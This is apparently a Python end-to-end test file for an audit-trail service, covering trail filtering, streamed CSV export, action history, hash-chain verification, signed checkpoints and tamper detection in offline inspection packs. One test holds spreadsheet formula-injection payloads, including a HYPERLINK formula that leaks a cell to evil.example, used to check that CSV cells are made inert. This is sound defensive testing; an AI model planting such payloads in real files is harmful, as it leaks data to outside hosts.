"""The trail through HTTP and the command line: rows, filters, CSV, history, verification,
checkpoints and an inspection pack verified offline."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

from tests.e2e.builders import audit_body, make_plan, remedial_action
from tests.e2e.test_server import run


def test_the_trail_lists_every_change_with_who_when_why(auditor, manager, inspector):
    audit = auditor.post("/api/audits", audit_body(audited_on="2019-01-15")).json
    manager.post(
        f"/api/audits/{audit['id']}/moderation",
        {"grade": "requires_improvement", "rationale": "Plans lack timescales"},
    )
    trail = inspector.get("/api/trail").json
    assert trail["total"] == 2
    recorded, moderated = trail["items"]
    assert recorded["entity_type"] == "audit" and recorded["entity_id"] == audit["id"]
    assert recorded["event_type"] == "Recorded"
    assert (recorded["actor"], recorded["actor_role"]) == ("auditor-1", "auditor")
    assert recorded["effective_on"] == "2019-01-15"
    assert recorded["late"] is True  # recorded years after the audit
    assert "graded good" in recorded["summary"]
    assert moderated["reason"] == "Plans lack timescales"
    assert "changed from good" in moderated["summary"]
    assert moderated["position"] > recorded["position"]
    assert len(moderated["hash"]) == 64
    only_moderations = inspector.get("/api/trail?event_type=Moderated").json
    assert [r["position"] for r in only_moderations["items"]] == [moderated["position"]]
    by_actor = inspector.get("/api/trail?actor=auditor-1").json
    assert by_actor["total"] == 1
    by_effective = inspector.get("/api/trail?effective_from=2019-01-01&effective_to=2019-01-31")
    assert by_effective.json["total"] == 1


def test_auditors_cannot_read_the_trail(auditor):
    assert auditor.get("/api/trail").status_code == 403


def test_the_trail_as_csv_streams_every_row(manager, inspector):
    make_plan(manager)
    response = inspector.get("/api/trail?format=csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.is_streamed
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == inspector.get("/api/trail").json["total"]
    assert rows[0]["event_type"] == "Created"
    assert set(rows[0]) >= {"position", "actor", "recorded_at", "effective_on", "reason", "hash"}


def test_an_actions_history_shows_each_change_and_the_state_after_it(manager, inspector):
    plan = make_plan(manager)
    action_id = plan["recommendations"][0]["actions"][0]["id"]
    manager.post(
        f"/api/actions/{action_id}/status", {"status": "in_progress", "effective_on": "2016-02-10"}
    )
    manager.post(
        f"/api/actions/{action_id}/reschedule", {"due_on": "2016-06-30", "reason": "Slipped"}
    )
    history = inspector.get(f"/api/actions/{action_id}/history").json
    kinds = [row["event_type"] for row in history["items"]]
    assert kinds == ["Raised", "StatusChanged", "Rescheduled"]
    states = [row["state"] for row in history["items"]]
    assert [s["status"] for s in states] == ["not_started", "in_progress", "in_progress"]
    assert [s["due_on"] for s in states] == ["2016-03-31", "2016-03-31", "2016-06-30"]
    assert history["items"][2]["reason"] == "Slipped"
    plan_history = inspector.get(f"/api/plans/{plan['id']}/history").json
    assert plan_history["items"][0]["event_type"] == "Created"
    assert plan_history["items"][-1]["state"]["actions"] == 2
    assert inspector.get(f"/api/audits/{plan['id']}/history").status_code == 404


def test_verify_through_http(manager, inspector):
    make_plan(manager)
    verdict = inspector.get("/api/trail/verify").json
    assert verdict["ok"] is True
    assert verdict["count"] == inspector.get("/api/trail").json["total"]
    assert verdict["problem"] is None


def test_checkpoint_verify_and_an_inspection_pack_verified_offline(settings, tmp_path):
    from datetime import date, datetime
    from zoneinfo import ZoneInfo

    from qa_service.demo import SimClock, load_demo
    from qa_service.service import build_service

    london = ZoneInfo("Europe/London")
    clock = SimClock(now=datetime(2016, 2, 1, tzinfo=london))
    svc = build_service(settings, clock=clock)
    load_demo(svc.commands, clock, london, until=date(2016, 12, 31))
    svc.close()
    env_key = tmp_path / "keys" / "qa-signing-key.pem"

    def qa(*args: str, check: bool = True):
        import os

        os.environ["QA_SIGNING_KEY"] = str(env_key)
        try:
            return run(settings, *args, check=check)
        finally:
            del os.environ["QA_SIGNING_KEY"]

    issued = json.loads(qa("checkpoint").stdout)
    assert len(issued["signature"]) == 128
    assert env_key.exists() and oct(env_key.stat().st_mode & 0o777) == "0o600"
    public = env_key.with_suffix(".pub")
    assert public.read_text().strip() == issued["public_key"]
    assert "1 signed checkpoint(s) hold" in qa("verify").stdout

    pack = tmp_path / "pack.zip"
    qa("export-pack", "--as-of", "2016-09-30", "--out", str(pack))
    with zipfile.ZipFile(pack) as z:
        names = set(z.namelist())
        z.extract("verify_pack.py", tmp_path)
        plans = json.loads(z.read("plan_status.json"))
    assert names >= {"events.jsonl", "trail.csv", "plan_status.json", "audit_register.json",
                     "checkpoint.json", "verify_pack.py", "README.txt"}  # fmt: skip
    assert plans[0]["as_of"] == "2016-09-30"
    verifier = [sys.executable, str(tmp_path / "verify_pack.py")]
    ok = subprocess.run([*verifier, str(pack), str(public)], capture_output=True, text=True)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert ok.stdout.startswith("VERIFIED:")

    # An inspector's copy edited after signing is caught, file by file.
    edited = tmp_path / "edited.zip"
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(edited, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "plan_status.json":
                data = data.replace(b'"overdue": true', b'"overdue": false', 1)
            dst.writestr(item, data)
    bad = subprocess.run([*verifier, str(edited), str(public)], capture_output=True, text=True)
    assert bad.returncode == 1
    assert "plan_status.json was changed after the pack was signed" in bad.stdout

    # Events dropped from the pack no longer hash to the signed head.
    dropped = tmp_path / "dropped.zip"
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(dropped, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "events.jsonl":
                lines = data.decode().splitlines(keepends=True)
                data = "".join(lines[:10] + lines[11:]).encode()
            dst.writestr(item, data)
    bad = subprocess.run([*verifier, str(dropped), str(public)], capture_output=True, text=True)
    assert bad.returncode == 1
    assert "events.jsonl was changed" in bad.stdout

    # Another key cannot vouch for it.
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    other = tmp_path / "other.pub"
    other.write_text(
        Ed25519PrivateKey.generate()
        .public_key()
        .public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        .hex()
    )
    bad = subprocess.run([*verifier, str(pack), str(other)], capture_output=True, text=True)
    assert bad.returncode == 1
    assert "signature does not match" in bad.stdout
    assert Path(pack).stat().st_size > 10_000


def test_a_large_trail_exports_as_csv_in_bounded_memory(service, inspector):
    """100,000 trail rows (written straight into the read model, for speed) stream out
    while the export's peak memory stays a small fraction of the file's size."""
    import tracemalloc
    import uuid

    from projections.trail import trail

    n = 100_000
    entity = uuid.uuid4()
    rows = [
        {
            "position": i, "entity_type": "action", "entity_id": entity, "entity_version": i,
            "event_type": "StatusChanged", "actor": "mo", "actor_role": "manager",
            "recorded_us": 1_500_000_000_000_000 + i, "effective_on": None, "reason": "x" * 40,
            "late": False, "summary": "Status changed to in_progress from 2016-02-10",
            "content_hash": "c" * 64, "chain_hash": "h" * 64,
        }
        for i in range(1, n + 1)
    ]  # fmt: skip
    with service.engine.begin() as conn:
        for start in range(0, n, 20_000):
            conn.execute(trail.insert(), rows[start : start + 20_000])
    del rows

    response = inspector.get("/api/trail?format=csv", buffered=False)
    tracemalloc.start()
    size = lines = 0
    for chunk in response.response:
        size += len(chunk)
        lines += chunk.count(b"\n") if isinstance(chunk, bytes) else chunk.count("\n")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert lines == n + 1
    assert size > 25_000_000
    assert peak < 8_000_000, f"peak {peak / 1e6:.1f} MB for a {size / 1e6:.0f} MB export"


def test_the_trail_filters_by_recording_time_and_entity(auditor, manager, inspector):
    from datetime import UTC, datetime, timedelta

    before = datetime.now(UTC) - timedelta(seconds=1)
    audit = auditor.post("/api/audits", audit_body()).json
    plan = make_plan(manager)
    after = datetime.now(UTC) + timedelta(seconds=1)
    window = {"recorded_from": before.isoformat(), "recorded_to": after.isoformat()}
    everything = inspector.get("/api/trail", query_string=window).json
    assert everything["total"] == inspector.get("/api/trail").json["total"]
    earlier = {"recorded_to": before.isoformat()}
    assert inspector.get("/api/trail", query_string=earlier).json["total"] == 0
    just_audit = inspector.get(f"/api/trail?entity_id={audit['id']}").json
    assert [r["event_type"] for r in just_audit["items"]] == ["Recorded"]
    plans = inspector.get("/api/trail?entity_type=plan").json["items"]
    assert {r["entity_id"] for r in plans} == {plan["id"]}
    bad = inspector.get("/api/trail?entity_type=child")
    assert bad.status_code == 422 and "entity_type" in bad.json["errors"]["query"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(auditor, manager, inspector):
    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")'
    audit = auditor.post("/api/audits", audit_body(actions=[remedial_action(description=link)]))
    assert audit.status_code == 201, audit.json
    action_id = audit.json["actions"][0]["id"]
    for month, reason in enumerate((link, "+SUM(1,2)", "-2+3", "@cmd"), 3):
        response = manager.post(
            f"/api/actions/{action_id}/reschedule",
            {"due_on": f"2019-{month:02}-28", "reason": reason},
        )
        assert response.status_code == 200, response.json
    rows = list(csv.DictReader(io.StringIO(inspector.get("/api/trail?format=csv").text)))
    reasons = [row["reason"] for row in rows if row["event_type"] == "Rescheduled"]
    assert reasons == [f"'{link}", "'+SUM(1,2)", "'-2+3", "'@cmd"]
    [raised] = [row["summary"] for row in rows if row["event_type"] == "Raised"]
    assert raised.startswith(f"Action raised on case CS-104233: {link}")  # not a formula
    as_json = inspector.get("/api/trail?event_type=Rescheduled").json["items"]
    assert as_json[0]["reason"] == link  # JSON is not a spreadsheet: it says what was written


def test_a_csv_cell_starting_with_a_tab_or_return_is_made_inert_too():
    """The API trims such text on the way in; an event written past it is still safe."""
    from qa_service.exports import TRAIL_COLUMNS, trail_csv

    row = dict.fromkeys(TRAIL_COLUMNS, "plain")
    lines = [{**row, "reason": "\t=1+1"}, {**row, "reason": "\r=1+1"}]
    reasons = [r["reason"] for r in csv.DictReader(io.StringIO("".join(trail_csv(lines))))]
    assert reasons == ["'\t=1+1", "'\r=1+1"]


def _break_event_3(service) -> None:
    """Event 3's stored state made into something the log never writes: text on SQLite
    (its columns take any type), NULL on PostgreSQL."""
    from tests.integration.test_trail import sql, switch_off_protection, table

    switch_off_protection(service)
    events, position = table(service)
    value = "state || x'00'" if service.settings.is_sqlite else "NULL"
    sql(service, f"UPDATE {events} SET state = {value} WHERE {position} = 3")


def test_verify_names_an_unreadable_event_over_http_and_on_the_command_line(
    settings, service, manager, inspector
):
    make_plan(manager)
    _break_event_3(service)
    response = inspector.get("/api/trail/verify")
    assert response.status_code == 200
    verdict = response.json
    assert (verdict["ok"], verdict["position"], verdict["problem"]) == (False, 3, "altered")
    cli = run(settings, "verify", check=False)
    assert cli.returncode == 1, cli.stdout + cli.stderr
    assert cli.stdout.startswith("NOT OK: altered at position 3: the stored event at position 3")
    assert "Traceback" not in cli.stderr


def test_verify_names_a_read_model_edited_behind_the_events(settings, service, manager, inspector):
    from uuid import UUID

    from sqlalchemy import update

    from projections.actions import action_versions

    plan = make_plan(manager)
    action_id = plan["recommendations"][0]["actions"][0]["id"]
    with service.engine.begin() as conn:  # someone with write access to the tables
        conn.execute(
            update(action_versions)
            .where(action_versions.c.entity_id == UUID(action_id))
            .values(status="done")
        )
    assert inspector.get(f"/api/actions/{action_id}").json["status"] == "done"
    verdict = inspector.get("/api/trail/verify").json
    assert (verdict["ok"], verdict["read_models_ok"]) == (False, False)
    [drift] = verdict["drift"]
    assert (drift["read_model"], drift["table"], drift["key"], drift["entity_id"]) == (
        "actions", "action_versions", "action_id", action_id
    )  # fmt: skip
    cli = run(settings, "verify", check=False)
    assert cli.returncode == 1
    assert cli.stdout.startswith(
        f"NOT OK: the read model actions differs from the events (action_versions, action_id "
        f"{action_id}): status is 'done' in the read model, 'not_started' from the events"
    )
    # Rebuilding the read model from the events puts it right.
    run(settings, "projections", "rebuild", "actions")
    assert inspector.get(f"/api/actions/{action_id}").json["status"] == "not_started"
    assert "every read model matches the events" in run(settings, "verify").stdout
